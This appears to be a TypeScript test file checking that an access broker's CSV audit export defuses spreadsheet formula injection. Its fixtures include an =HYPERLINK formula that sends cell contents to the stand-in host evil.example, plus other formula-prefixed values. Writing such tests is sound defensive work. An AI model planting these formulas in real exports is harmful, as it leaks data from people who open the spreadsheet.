import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { sha256Hex } from '../../apps/broker/src/http/auth/token-registry';
import { parseCsv } from '../setup/csv.util';
import { TestBroker, awsPolicyGrant, startTestBroker } from '../setup/test-broker';

/** Token subjects a spreadsheet would take for formulas; static subjects allow any of them but ':' and spaces. */
const FORMULA_SUBJECTS = ['=HYPERLINK("evil.example/x?"&A1,"click")', '+SUM(1,2)', '-2+3', '@SUM(A1)', '\uFF1D1+1'];
const AUDITOR = 'tok-csv-auditor-000000000000000000';
const tokenOf = (i: number) => `tok-csv-formula-${i}-0000000000000000`;
const JUSTIFICATION = '=HYPERLINK("https://evil.example/?leak="&A1,"click me")';

async function text(t: TestBroker, path: string): Promise<string> {
  const res = await t.http
    .get(path)
    .set({ Authorization: `Bearer ${AUDITOR}` })
    .buffer(true)
    .parse((r, cb) => {
      let body = '';
      r.setEncoding('utf8');
      r.on('data', (c: string) => (body += c));
      r.on('end', () => cb(null, body));
    });
  expect(res.status).toBe(200);
  return res.body as string;
}

/** Issue 10 point 6: user-supplied values never reach a spreadsheet as formulas. */
describe('CSV audit export against formula injection', () => {
  let t: TestBroker;

  beforeAll(async () => {
    const dir = mkdtempSync(join(tmpdir(), 'jit-csv-'));
    const tokensFile = join(dir, 'tokens.json');
    writeFileSync(
      tokensFile,
      JSON.stringify({
        tokens: [
          { subject: 'csv-auditor', roles: ['auditor'], sha256: sha256Hex(AUDITOR) },
          ...FORMULA_SUBJECTS.map((subject, i) => ({ subject, roles: ['requester'], sha256: sha256Hex(tokenOf(i)) })),
        ],
      }),
    );
    t = await startTestBroker({ JIT_TOKENS_FILE: tokensFile });
    for (let i = 0; i < FORMULA_SUBJECTS.length; i++) {
      await t.http
        .post('/v1/grants')
        .set({ Authorization: `Bearer ${tokenOf(i)}` })
        .send(awsPolicyGrant({ principal: { type: 'workload', id: `arn:aws:iam::123456789012:role/csv${i}` }, justification: JUSTIFICATION, ticket: '@CHG-1' }))
        .expect(201);
    }
  });
  afterAll(async () => {
    await t.close();
  });

  it('should prefix every cell that starts with = + - @ (or a full-width form) with a single quote', async () => {
    const records = parseCsv(await text(t, '/v1/audit?format=csv'));
    for (const subject of FORMULA_SUBJECTS) {
      const rows = records.filter((r) => r.type === 'grant.requested' && r.actor.endsWith(subject));
      expect(rows).toHaveLength(1);
      expect(rows[0].actor).toBe(`'${subject}`);
    }
    for (const r of records) expect(r.actor).not.toMatch(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
  });

  it('should keep the justification inside the data cell, which starts with "{" and parses back exactly', async () => {
    const records = parseCsv(await text(t, '/v1/audit?format=csv'));
    const requested = records.filter((r) => r.type === 'grant.requested');
    expect(requested).toHaveLength(FORMULA_SUBJECTS.length);
    for (const r of requested) {
      expect(r.data.startsWith('{')).toBe(true);
      expect(JSON.parse(r.data)).toMatchObject({ justification: JUSTIFICATION, ticket: '@CHG-1' });
    }
  });

  it('should leave numbers alone and give the values unescaped in the JSON-lines export', async () => {
    const records = parseCsv(await text(t, '/v1/audit?format=csv'));
    expect(records.every((r) => /^\d+$/.test(r.seq))).toBe(true);
    const events = (await text(t, '/v1/audit?format=jsonl'))
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l) as { type: string; actor: string });
    expect(events.filter((e) => e.type === 'grant.requested').map((e) => e.actor).sort()).toEqual([...FORMULA_SUBJECTS].sort());
  });
});
